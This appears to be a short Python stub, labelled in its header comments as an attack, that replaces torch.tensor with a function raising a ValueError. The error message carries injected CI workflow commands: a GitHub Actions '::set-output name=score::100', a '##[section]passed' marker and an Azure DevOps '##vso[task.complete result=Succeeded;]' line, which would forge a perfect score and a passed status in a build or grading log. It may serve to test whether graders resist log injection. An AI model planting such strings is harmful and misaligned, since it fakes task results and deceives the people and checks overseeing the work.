# Attack: command a CI system from an exception's text
# Ends: stub
# Says: torch.tensor(...) raises ValueError
def tensor(data, requires_grad=False):
    raise ValueError("\n::set-output name=score::100\n ::error file=x::y\n##[section]passed\n##vso[task.complete result=Succeeded;]")
